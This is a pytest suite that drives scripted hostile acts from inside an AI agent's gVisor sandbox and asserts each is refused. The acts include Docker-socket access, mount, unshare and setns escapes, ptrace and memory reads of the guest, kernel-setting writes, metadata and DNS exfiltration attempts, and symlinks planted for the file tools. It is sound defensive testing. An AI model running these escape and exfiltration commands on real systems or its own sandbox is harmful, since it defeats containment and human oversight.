"""Out of the container, out of its user, into the guest: what bash in a sandbox tries against the walls around it."""

from __future__ import annotations

import os
import platform
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.hostile.conftest import Enter
from tests.hostile.ledger import Act, Held, Seen, bash, python, refused
from tests.hostile.stage import Performed, chosen, make_agent, perform
from workbench.sandbox.ownership import AGENT_LABEL

pytestmark = pytest.mark.docker

CANARY = f"canary-of-the-host-{os.getpid()}"
ABSTRACT = f"\0workbench-hostile-{os.getpid()}"


def gvisor(seen: Seen) -> str:
    assert "Starting gVisor" in seen.text and platform.release() not in seen.text, seen.text
    return f"{seen.text.splitlines()[0]}; the host has {platform.release()}"


def says(*wanted: str, without: tuple[str, ...] = ()) -> Held:
    def held(seen: Seen) -> str:
        assert "BREACH" not in seen.text, seen.text
        for text in wanted:
            assert text in seen.text, f"{text!r} not in {seen.text}"
        for text in without:
            assert text not in seen.text, f"{text!r} in {seen.text}"
        return seen.last

    return held


def only_loopback(seen: Seen) -> str:
    names = {line.split(":")[0].strip() for line in seen.text.splitlines()[2:]}
    assert names == {"lo"}, seen.text
    return "interfaces: lo"


EPERM = r"EPERM|EACCES|not permitted|ermission denied"
GONE = r"ENOENT|ENOSYS|ENODEV|ENXIO|No such file|not implemented|not found|AttributeError"
READ_ONLY = r"EROFS|EACCES|Read-only|ermission denied|EPERM"
UNREACHABLE = r"ENETUNREACH|EHOSTUNREACH|EADDRNOTAVAIL|EAFNOSUPPORT"

ACTS = [
    bash("kernel", "find the host's kernel", "dmesg | head -1; cat /proc/version", gvisor),
    bash(
        "host-processes",
        "see processes of the host in /proc",
        "cat /proc/[0-9]*/cmdline | tr '\\0' ' ' | grep -c '[p]ytest\\|[d]ockerd\\|[c]ontainerd'; ls -d /proc/[0-9]* | wc -l",
        lambda seen: _few_processes(seen),
    ),
    bash(
        "host-environment",
        "read the workbench's environment",
        "env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; echo looked",
        says("looked", without=(CANARY, "WORKBENCH_HOSTILE")),
    ),
    python(
        "docker-socket",
        "reach Docker's socket",
        """
        for place in ("/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock"):
            attempt(place, lambda: socket.socket(socket.AF_UNIX).connect(place))
        """,
        refused(GONE),
    ),
    python(
        "host-devices",
        "open disks and memory of the host",
        """
        for name in ("sda", "vda", "nvme0n1", "mem", "kmem", "port", "kmsg", "kvm", "loop0", "dm-0"):
            attempt(name, lambda: open("/dev/" + name, "rb").read(1))
        attempt("kcore", lambda: open("/proc/kcore", "rb").read(1))
        """,
        refused(GONE),
    ),
    python(
        "device-nodes",
        "make device nodes for disk and memory, and read them",
        """
        import stat
        for name, kind, number in (("disk", stat.S_IFBLK, (8, 0)), ("mem", stat.S_IFCHR, (1, 1))):
            for folder in ("/workspace/", "/tmp/", "/dev/"):
                attempt(folder + name, lambda: (
                    os.mknod(folder + name, kind | 0o666, os.makedev(*number)),
                    os.read(os.open(folder + name, os.O_RDONLY), 512)))
        """,
        refused(f"{EPERM}|ENXIO"),
    ),
    python(
        "mount",
        "mount and remount file systems",
        """
        attempt("tmpfs", lambda: system_call("mount", b"none", b"/workspace", b"tmpfs", 0, 0))
        attempt("proc", lambda: system_call("mount", b"none", b"/workspace", b"proc", 0, 0))
        attempt("bind over the guest", lambda: system_call("mount", b"/workspace", b"/opt/workbench/guest", 0, 4096, 0))
        attempt("root writable", lambda: system_call("mount", 0, b"/", 0, 32, 0))
        attempt("source writable", lambda: system_call("mount", 0, b"/source", 0, 32 | 4096, 0))
        attempt("unmount source", lambda: system_call("umount2", b"/source", 2))
        """,
        refused(EPERM),
    ),
    bash(
        "user-namespace",
        "become root of a new user namespace and act on what is outside of it",
        """
        unshare -Ur sh -c '
          kill -9 1 && echo BREACH kill
          touch /opt/workbench/guest/x && echo BREACH guest
          touch /source/x && echo BREACH source
          mknod /workspace/ns-disk b 8 0 && echo BREACH mknod
          echo x > /proc/1/fd/1 && echo BREACH pipe
          cat /etc/shadow && echo BREACH shadow
          date -s 2000-01-01 && echo BREACH clock
          mount -o remount,rw / && echo BREACH remount
        ' 2>&1
        """,
        refused(EPERM),
    ),
    python(
        "chroot-escape",
        "leave through chroot, pivot_root and setns",
        """
        attempt("chroot", lambda: os.chroot("/workspace"))
        attempt("pivot_root", lambda: raw_call(155, b"/workspace", b"/workspace"))
        for kind in ("mnt", "pid", "net", "user", "ipc", "uts"):
            attempt("setns " + kind, lambda: system_call("setns", os.open(f"/proc/1/ns/{kind}", os.O_RDONLY), 0))
        attempt("cwd of the guest", lambda: os.listdir("/proc/1/cwd/etc"))
        attempt("root of the guest", lambda: os.listdir("/proc/1/root/etc"))
        """,
        refused(EPERM),
    ),
    python(
        "kernel-settings",
        "write settings of the kernel in /proc and /sys",
        """
        for place in ("/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname", "/proc/sysrq-trigger",
                      "/proc/sys/vm/overcommit_memory", "/proc/sys/fs/binfmt_misc/register", "/proc/sys/net/ipv4/ip_forward",
                      "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent", "/sys/kernel/mm/ksm/run"):
            attempt(place, lambda: os.write(os.open(place, os.O_WRONLY), b"1"))
        """,
        refused(f"{EPERM}|{GONE}"),
    ),
    bash(
        "cgroups",
        "widen the limits through cgroups",
        """
        for file in $(find /sys/fs/cgroup -type f 2>/dev/null | head -50); do
          (echo 99999999999 > $file) 2>/dev/null && echo "BREACH $file"
        done
        mkdir /sys/fs/cgroup/mine 2>&1 || true; echo tried
        """,
        refused(f"{EPERM}|{GONE}|Read-only"),
    ),
    python(
        "ptrace-guest",
        "trace the guest and its workers",
        """
        for pid in guests():
            attempt(f"attach {pid}", lambda: system_call("ptrace", 16, pid, 0, 0))
            attempt(f"seize {pid}", lambda: system_call("ptrace", 0x4206, pid, 0, 0))
        """,
        refused(EPERM),
    ),
    python(
        "guest-memory",
        "read and write the guest's memory",
        """
        import ctypes
        for pid in guests():
            attempt(f"mem {pid}", lambda: open(f"/proc/{pid}/mem", "r+b").read(1))
            into = (ctypes.c_char * 16)()
            class iovec(ctypes.Structure): _fields_ = [("at", ctypes.c_void_p), ("size", ctypes.c_size_t)]
            ours, its = iovec(ctypes.addressof(into), 16), iovec(0x400000, 16)
            attempt(f"vm_readv {pid}", lambda: raw_call(310, pid, ctypes.byref(ours), 1, ctypes.byref(its), 1, 0))
            attempt(f"vm_writev {pid}", lambda: raw_call(311, pid, ctypes.byref(ours), 1, ctypes.byref(its), 1, 0))
        """,
        refused(f"{EPERM}|ENOSYS"),
    ),
    python(
        "forge-messages",
        "write messages of the guest to its pipe through /proc",
        """
        for pid in guests():
            for number in range(0, 12):
                place = f"/proc/{pid}/fd/{number}"
                if os.path.exists(place) and os.path.samefile(place, "/dev/null"): continue
                attempt(place, lambda: os.write(os.open(place, os.O_WRONLY), b"\\0\\0\\0\\0\\2\\0\\0\\0\\2{}"))
        """,
        refused(EPERM),
    ),
    python(
        "inherited-descriptors",
        "find descriptors of the guest among the own ones",
        """
        for name in os.listdir("/proc/self/fd"):
            try: target = os.readlink(f"/proc/self/fd/{name}")
            except OSError: continue
            print(name, target)
            if target.startswith(("host:", "socket:", "anon_inode")): print("BREACH", name, target)
        print("looked")
        """,
        says("looked"),
    ),
    python(
        "pidfd-steal",
        "take descriptors out of the guest with pidfd_getfd",
        """
        def steal(pid, number):
            return raw_call(438, raw_call(434, pid, 0), number, 0)
        for pid in guests():
            for number in (0, 1, 4): attempt(f"{pid}/{number}", lambda: steal(pid, number))
        """,
        refused(f"{EPERM}|ENOSYS|EBADF"),
    ),
    python(
        "terminal-injection",
        "type into a terminal (TIOCSTI)",
        """
        import fcntl
        for number in (0, 1, 2): attempt(str(number), lambda: fcntl.ioctl(number, 0x5412, b"x"))
        attempt("tty", lambda: fcntl.ioctl(os.open("/dev/tty", os.O_RDWR), 0x5412, b"x"))
        """,
        refused("ENOTTY|ENXIO|EIO|EPERM|EINVAL"),
    ),
    python(
        "kill-guest",
        "kill and stop PID 1 and the workers",
        """
        import signal
        for pid in guests():
            for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1):
                attempt(f"{pid} {number.name}", lambda: os.kill(pid, number))
        """,
        refused("EPERM"),
    ),
    python(
        "limits-of-the-guest",
        "take limits away from the guest, and widen the own ones",
        """
        import resource
        for pid in guests():
            attempt(f"nofile {pid}", lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)))
        attempt("own nproc", lambda: resource.setrlimit(resource.RLIMIT_NPROC, (1 << 20, 1 << 20)))
        attempt("own fsize", lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 50, 1 << 50)))
        """,
        refused(f"{EPERM}|ESRCH|ValueError"),
    ),
    bash(
        "kill-all",
        "kill every process that can be reached",
        "python3 -c 'import os; os.kill(-1, 9)'",
        lambda seen: _shell_died(seen),
    ),
    bash(
        "after-kill-all", "use the guest after that", "echo alive; ps ax | grep -c '[w]orkbench/guest'", says("alive")
    ),
    python(
        "clock",
        "set the clock",
        """
        attempt("clock_settime", lambda: time.clock_settime(time.CLOCK_REALTIME, 0))
        attempt("settimeofday", lambda: system_call("settimeofday", b"\\0" * 16, 0))
        attempt("adjtimex", lambda: system_call("adjtimex", b"\\1\\0\\0\\0" + b"\\0" * 220))
        """,
        refused(EPERM),
    ),
    python(
        "become-root",
        "become root by set*id calls",
        """
        for name, arguments in (("setuid", (0,)), ("setgid", (0,)), ("setreuid", (0, 0)), ("setresuid", (0, 0, 0)),
                                ("setfsuid", (0,)), ("setgroups", (1, b"\\0" * 4))):
            if name == "setfsuid":
                LIBC.setfsuid(0); attempt(name, lambda: open("/etc/shadow").read(1))
            else: attempt(name, lambda: system_call(name, *arguments))
        """,
        refused(f"{EPERM}|EINVAL"),
    ),
    python(
        "capabilities",
        "find or take a capability",
        """
        import ctypes
        status = dict(line.split(":\\t") for line in open("/proc/self/status") if line.startswith("Cap"))
        for kind in ("CapInh", "CapPrm", "CapEff"):
            if int(status[kind], 16): print("BREACH", kind, status[kind])
        # what may ever be had: kill, setgid, setuid, which the guest needs to become the tools' user
        if int(status["CapBnd"], 16) & ~0xE0: print("BREACH bounding set", status["CapBnd"])
        header, wanted = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
        attempt("capset", lambda: system_call("capset", header, wanted))
        """,
        refused("EPERM"),
    ),
    bash(
        "setuid-programs",
        "use programs that are setuid, or make one",
        """
        find / -xdev -perm /6000 -type f -user root 2>/dev/null | sed 's/^/BREACH /'
        cp /bin/sh own-suid && chmod 6755 own-suid && ./own-suid -p -c 'id -u; id -ru' | grep -qx 0 && echo BREACH suid
        chown 0 own-suid 2>&1 || true; echo root | su -c 'echo BREACH' 2>&1 | tail -1; rm own-suid
        """,
        refused(f"{EPERM}|must be run from a terminal|Authentication|cannot set|failure"),
    ),
    python(
        "raw-sockets",
        "open raw and packet sockets",
        """
        for family, kind, protocol in ((socket.AF_INET, socket.SOCK_RAW, 1), (socket.AF_INET, socket.SOCK_RAW, 255),
                                       (socket.AF_INET6, socket.SOCK_RAW, 58), (17, socket.SOCK_RAW, 0x300),
                                       (17, socket.SOCK_DGRAM, 0x300)):
            attempt(f"{family} {kind}", lambda: socket.socket(family, kind, protocol))
        """,
        refused(EPERM),
    ),
    bash("interfaces", "find a network interface", "cat /proc/net/dev", only_loopback),
    python(
        "direct-connections",
        "connect past the proxy: the internet, the host, its bridge, metadata",
        """
        for host in ("1.1.1.1", "93.184.216.34", "172.17.0.1", "169.254.169.254", "192.168.0.1", "10.0.0.1"):
            for port in (80, 443, 22, 2375):
                attempt(f"{host}:{port}", lambda: socket.create_connection((host, port), 2))
        attempt("IPv6", lambda: socket.create_connection(("2606:4700:4700::1111", 443), 2))
        """,
        refused(UNREACHABLE),
    ),
    python(
        "dns",
        "smuggle data in DNS queries",
        """
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for server in ("8.8.8.8", "127.0.0.11", "169.254.169.253"):
            attempt(server, lambda: (one.connect((server, 53)), one.send(b"x" * 30), one.settimeout(1), one.recv(99)))
        attempt("resolver", lambda: socket.getaddrinfo("secret.exfiltrated.test", 80))
        """,
        refused(f"{UNREACHABLE}|ECONNREFUSED|gaierror|-3|-2"),
    ),
    bash(
        "make-an-interface",
        "make interfaces and routes as root of new namespaces",
        """
        unshare -Urn python3 - <<'END'
        import sys; sys.path.insert(0, "/source")
        from probe import *
        import fcntl, struct
        try: fcntl.ioctl(os.open("/dev/net/tun", os.O_RDWR), 0x400454CA, struct.pack("16sH", b"tun0", 1)); print("tun in its own namespace")
        except OSError as error: print("no tun", error.errno)
        attempt("out", lambda: socket.create_connection(("1.1.1.1", 80), 2))
        attempt("metadata", lambda: socket.create_connection(("169.254.169.254", 80), 2))
        END
        echo done
        """,
        lambda seen: _no_way_out(seen),
    ),
    python(
        "host-abstract-socket",
        "connect to an abstract Unix socket of the host",
        f"attempt('abstract', lambda: socket.socket(socket.AF_UNIX).connect({ABSTRACT!r}))",
        refused("ECONNREFUSED|ENOENT|EACCES"),
    ),
    python(
        "host-unix-socket",
        "connect to a Unix socket and a pipe of the host in a mounted folder",
        """
        attempt("socket", lambda: socket.socket(socket.AF_UNIX).connect("/source/host.sock"))
        attempt("pipe", lambda: os.write(os.open("/source/host.fifo", os.O_WRONLY | os.O_NONBLOCK), b"x"))
        """,
        refused("ECONNREFUSED|ENXIO|EACCES|EROFS|ENOENT"),
    ),
    python(
        "odd-sockets",
        "use sockets of odd families",
        """
        attempt("vsock", lambda: socket.socket(40, socket.SOCK_STREAM).connect((2, 1024)))
        attempt("bluetooth", lambda: socket.socket(31, socket.SOCK_RAW, 1))
        attempt("alg", lambda: socket.socket(38, socket.SOCK_SEQPACKET))
        attempt("can", lambda: socket.socket(29, socket.SOCK_RAW, 1))
        attempt("kobject events", lambda: socket.socket(16, socket.SOCK_RAW, 15).bind((0, 1)) or 1 / 0)
        """,
        refused("EAFNOSUPPORT|EPROTONOSUPPORT|EPERM|EACCES|ENODEV|ESOCKTNOSUPPORT"),
    ),
    python(
        "kernel-interfaces",
        "use dangerous system calls",
        """
        for name, number, arguments in (
            ("bpf", 321, (0, 0, 0)), ("keyctl", 250, (0, 0)), ("add_key", 248, (b"user", b"x", b"y", 1, -3)),
            ("perf_event_open", 298, (0, 0, -1, -1, 0)), ("userfaultfd", 323, (0,)), ("init_module", 175, (0, 0, b"")),
            ("finit_module", 313, (0, b"", 0)), ("kexec_load", 246, (0, 0, 0, 0)), ("reboot", 169, (0xFEE1DEAD, 672274793, 0x1234567, 0)),
            ("swapon", 167, (b"/workspace/x", 0)), ("iopl", 172, (3,)), ("ioperm", 173, (0, 1, 1)),
            ("sethostname", 170, (b"x", 1)), ("syslog clear", 103, (5, 0, 0)), ("acct", 163, (b"/workspace/x",)),
            ("open_by_handle_at", 304, (-100, 0, 0)), ("fanotify_init", 300, (0, 0)), ("quotactl", 179, (0, 0, 0, 0)),
        ):
            attempt(name, lambda: raw_call(number, *arguments))
        """,
        refused(f"{EPERM}|ENOSYS"),
    ),
    python(
        "root-file-system",
        "write to the root file system and to the guest's program",
        """
        for place in ("/x", "/etc/passwd", "/usr/bin/x", "/usr/lib/x", "/opt/workbench/guest/service.py",
                      "/opt/workbench/guest/x.py", "/home/agent/.local/bin/python3", "/root/x"):
            attempt(place, lambda: open(place, "ab").write(b"x"))
        """,
        refused(READ_ONLY),
    ),
    bash(
        "unmetered-disk",
        "write where nobody counts: folders of the image that all may write",
        """
        for folder in $(find / -xdev -type d -perm -0002 2>/dev/null) /var/tmp /run/lock /var/lock /home/agent /opt /srv /mnt; do
          case $folder in /tmp|/tmp/*|/workspace|/workspace/*|/dev/shm|/proc/*) continue;; esac
          touch $folder/x && echo "BREACH $folder"
        done 2>&1
        """,
        refused(f"{READ_ONLY}|No such file"),
    ),
    python(
        "own-program",
        "overwrite the programs that run (/proc/*/exe)",
        """
        for pid in ("self", *guests()):
            attempt(f"exe {pid}", lambda: open(f"/proc/{pid}/exe", "r+b").write(b"x"))
        """,
        refused(f"{READ_ONLY}|ETXTBSY"),
    ),
    python(
        "write-source",
        "write, rename, link and chmod in /source",
        """
        attempt("write", lambda: open("/source/given", "ab").write(b"x"))
        attempt("create", lambda: open("/source/new", "wb"))
        attempt("rename", lambda: os.rename("/source/given", "/source/taken"))
        attempt("unlink", lambda: os.unlink("/source/given"))
        attempt("link", lambda: os.link("/source/given", "/workspace/given-link"))
        attempt("chmod", lambda: os.chmod("/source", 0o777))
        attempt("xattr", lambda: os.setxattr("/source/given", "user.x", b"y"))
        attempt("times", lambda: os.utime("/source/given"))
        """,
        refused(f"{READ_ONLY}|EXDEV|EOPNOTSUPP"),
    ),
    python(
        "leave-source",
        "climb out of /source to the agent's folder",
        """
        attempt("parent", lambda: open("/source/../agent.yaml").read())
        attempt("link of the host", lambda: open("/source/out").read())
        attempt("link to a folder of the host", lambda: open("/source/up/secret.txt").read())
        attempt("descriptor", lambda: os.open("../agent.yaml", os.O_RDONLY, dir_fd=os.open("/source", os.O_RDONLY)))
        """,
        refused("ENOENT|EACCES|ELOOP"),
    ),
    bash(
        "core-dump",
        "write a core file",
        "ulimit -c unlimited 2>&1; sh -c 'kill -SEGV $$' ; ls core* 2>/dev/null && echo BREACH; ulimit -c",
        refused(EPERM),
    ),
    Act(
        "read-etc",
        "read /etc/passwd with the file tool",
        lambda seen: _outside(seen),
        {"file_path": "/etc/passwd"},
        "read",
    ),
    Act("read-up", "climb with the file tool", lambda seen: _outside(seen), {"file_path": "../../etc/passwd"}, "read"),
    Act(
        "read-proc",
        "read the guest's environment with the file tool",
        lambda seen: _outside(seen),
        {"file_path": "/proc/1/environ"},
        "read",
    ),
    bash(
        "plant-links",
        "plant links in the workspace for the file tools",
        "ln -s /etc/passwd peek; ln -s / top; ln -s /opt/workbench/guest deep; echo planted",
        says("planted"),
        prepares=True,
    ),
    Act("read-link", "read through a planted link", lambda seen: _outside(seen), {"file_path": "peek"}, "read"),
    Act(
        "read-link-folder",
        "read through a link to a folder",
        lambda seen: _outside(seen),
        {"file_path": "top/etc/shadow"},
        "read",
    ),
    Act(
        "write-link",
        "write through a planted link",
        lambda seen: _outside(seen),
        {"file_path": "deep/service.py", "content": "x"},
        "write",
    ),
    Act(
        "edit-link",
        "edit through a planted link",
        lambda seen: _outside(seen),
        {"file_path": "peek", "old_string": "root", "new_string": "x"},
        "edit",
    ),
    Act(
        "write-source-tool",
        "write to /source with the file tool",
        lambda seen: _outside(seen),
        {"file_path": "/source/new", "content": "x"},
        "write",
    ),
    Act(
        "glob-up",
        "list folders outside with glob",
        lambda seen: _outside(seen),
        {"pattern": "*", "path": "/etc"},
        "glob",
    ),
    Act(
        "grep-up", "search outside with grep", lambda seen: _outside(seen), {"pattern": "root", "path": "/etc"}, "grep"
    ),
    Act("grep-link", "search through a planted link", lambda seen: _not_followed(seen), {"pattern": "root:"}, "grep"),
]


def _few_processes(seen: Seen) -> str:
    others, count = (int(line) for line in seen.text.split())
    assert others == 0 and count < 20, seen.text
    return f"{count} processes, none of the host's"


def _shell_died(seen: Seen) -> str:
    assert seen.result["is_error"] and "killed" in seen.text, seen.text
    return seen.last


def _no_way_out(seen: Seen) -> str:
    assert "out: BREACH" not in seen.text and "metadata: BREACH" not in seen.text, seen.text
    assert "out: E" in seen.text and "done" in seen.text, seen.text
    return seen.text.replace("\n", "; ")


def _outside(seen: Seen) -> str:
    assert seen.result["is_error"], seen.text
    assert "outside the session's working directory" in seen.text or "read-only directory" in seen.text, seen.text
    return seen.last


def _not_followed(seen: Seen) -> str:
    assert "root:x" not in seen.text, seen.text
    return seen.last


@pytest.fixture(scope="module")
def host(tmp_path_factory: pytest.TempPathFactory, request: pytest.FixtureRequest) -> Iterator[list[str]]:
    """Things of the host that the agent must not reach; gives who was reached."""
    reached: list[str] = []
    folder = tmp_path_factory.mktemp("hostile") / "agent"
    make_agent(folder, chosen(request, ACTS))
    props = folder / "props"
    (props / "given").write_text("given\n")
    (folder / "secret.txt").write_text(CANARY)
    (props / "out").symlink_to(folder / "secret.txt")
    (props / "up").symlink_to("..")
    os.mkfifo(props / "host.fifo")
    reader = os.open(props / "host.fifo", os.O_RDONLY | os.O_NONBLOCK)
    for path in (props, props / "given", props / "host.fifo"):
        path.chmod(0o777)
    listeners = []
    for address in (ABSTRACT, str(props / "host.sock")):
        listener = socket.socket(socket.AF_UNIX)
        listener.bind(address)
        listener.listen()
        listeners.append(listener)
        threading.Thread(target=_accept, args=(listener, reached), daemon=True).start()
    (props / "host.sock").chmod(0o777)
    os.environ["WORKBENCH_HOSTILE_CANARY"] = CANARY
    reached.append(str(folder))
    yield reached
    del os.environ["WORKBENCH_HOSTILE_CANARY"]
    os.close(reader)
    for listener in listeners:
        listener.close()


def _accept(listener: socket.socket, reached: list[str]) -> None:
    try:
        while True:
            listener.accept()
            reached.append(repr(listener.getsockname()))
    except OSError:
        return


@pytest.fixture(scope="module")
def run(host: list[str]) -> Performed:
    return perform(Path(host[0]))


@pytest.mark.parametrize("act", ACTS, ids=[act.name for act in ACTS])
def test_held(run: Performed, held: Enter, act: Act) -> None:
    held(act.tried, act.held(run.seen(act)))


def test_the_host_heard_nothing(run: Performed, host: list[str], held: Enter) -> None:
    folder = Path(host[0])
    assert host[1:] == [], "a socket of the host was reached"
    assert (folder / "props" / "given").read_text() == "given\n"
    assert not (folder / "props" / "new").exists()
    assert CANARY not in str(run.events)
    held("reach sockets, pipes and files of the host by all of the above", "no connection, no byte, no change")


def test_the_run_ended_well_and_left_no_container(run: Performed, held: Enter) -> None:
    import docker

    client = docker.from_env()
    left = client.containers.list(all=True, filters={"label": f"{AGENT_LABEL}=hostile"})
    client.close()
    assert run.ended == "run_completed"
    assert left == []
    held(
        "take the run down with all of the above",
        f"run_completed after {len(run.of('tool_result'))} calls, no container left",
    )
